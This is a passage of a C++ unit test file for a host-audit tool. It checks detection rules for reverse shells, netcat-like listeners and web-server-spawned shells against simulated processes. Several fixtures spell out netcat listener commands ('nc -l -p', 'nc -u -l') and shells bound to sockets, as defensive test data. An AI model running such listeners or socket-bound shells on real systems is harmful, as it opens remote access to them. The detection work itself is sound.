  fake_.link(70, "fd/0", socket_link(t.client));
  core::Process child = live(proc(75, 70, "/usr/bin/bash", {"bash", "/root/.pyenv/libexec/pyenv-init", "-"}));
  fake_.link(75, "fd/2", socket_link(t.client));
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), server, cgi, nc, bind_shell, bash, child}, check_reverse_shell);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].process.pid, 63);
  EXPECT_EQ(out[1].process.pid, 70);
}

// ------------------------------------------------------ unexpected-listener

TEST_F(AuditRulesA, UnexpectedListener) {
  Tcp t = tcp();
  core::Process shell = live(proc(80, 1, "/usr/bin/bash", {"bash"}));
  core::Process nc = live(proc(81, 80, "/bin/busybox", {"nc", "-l", "-p", std::to_string(t.port)}));
  fake_.link(81, "fd/3", socket_link(t.listener));
  core::Process py = live(proc(82, 1, "/usr/bin/python3.11", {"python3", "/srv/tool.py"}));
  fake_.link(82, "fd/4", socket_link(t.listener));
  core::Process gunicorn = live(proc(83, 1, "/usr/bin/python3.11", {"/usr/bin/python3", "/usr/bin/gunicorn", "app:app"}));
  fake_.link(83, "fd/5", socket_link(t.listener));
  core::Process worker = live(proc(84, 82, "/usr/bin/python3.11", {"python3", "/srv/tool.py"}));  // inherited
  fake_.link(84, "fd/4", socket_link(t.listener));
  core::Process client = live(proc(85, 1, "/usr/bin/bash", {"bash"}));  // a connected socket is not listening
  fake_.link(85, "fd/3", socket_link(t.client));
  core::Process nginx = live(proc(86, 1, "/usr/sbin/nginx", {"nginx"}));
  fake_.link(86, "fd/6", socket_link(t.listener));
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), shell, nc, py, gunicorn, worker, client, nginx},
                 check_unexpected_listener);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].process.pid, 81);
  EXPECT_EQ(out[0].severity, Severity::kHigh);
  EXPECT_TRUE(has_evidence(out[0], "listening tcp 127.0.0.1:" + std::to_string(t.port))) << all_evidence(out[0]);
  EXPECT_EQ(out[0].title, "a netcat-like tool listening on tcp 127.0.0.1:" + std::to_string(t.port));
  EXPECT_EQ(out[1].process.pid, 82);
  EXPECT_EQ(out[1].severity, Severity::kMedium);
  EXPECT_EQ(out[1].title, "an interpreter listening on tcp 127.0.0.1:" + std::to_string(t.port));
}

TEST_F(AuditRulesA, UdpListenerOutsideTheEphemeralRange) {
  int fixed = keep(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  uint16_t port = 0;
  for (uint16_t p = 23456; p < 23556 && port == 0; ++p) {
    a.sin_port = htons(p);
    if (::bind(fixed, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) port = p;
  }
  ASSERT_NE(port, 0);
  int client = keep(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  a.sin_port = 0;
  ASSERT_EQ(::bind(client, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);  // an ephemeral port
  core::Process nc = live(proc(90, 1, "/usr/bin/nc.openbsd", {"nc", "-u", "-l", std::to_string(port)}));
  fake_.link(90, "fd/3", socket_link(fixed));
  core::Process sh = live(proc(91, 1, "/usr/bin/dash", {"sh"}));
  fake_.link(91, "fd/3", socket_link(client));
  auto out = run({proc(1, 0, "/sbin/init", {"/sbin/init"}), nc, sh}, check_unexpected_listener);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].process.pid, 90);
  EXPECT_TRUE(has_evidence(out[0], "listening udp 127.0.0.1:" + std::to_string(port)));
}

// The registry runs these rules under their ids (the ids are stable).
TEST(AuditRulesARegistry, IdsAndSeverities) {
  ASSERT_NE(find_rule("web-server-spawned-shell"), nullptr);
  EXPECT_EQ(find_rule("web-server-spawned-shell")->check_process, &check_web_server_spawned_shell);
  EXPECT_EQ(find_rule("exec-from-writable-dir")->check_process, &check_exec_from_writable_dir);
  EXPECT_EQ(find_rule("cron-runs-writable-script")->check_process, &check_cron_runs_writable_script);
  EXPECT_EQ(find_rule("reverse-shell")->severity, Severity::kCritical);
  EXPECT_EQ(find_rule("unexpected-listener")->check_process, &check_unexpected_listener);
}

}  // namespace
}  // namespace lineage::audit
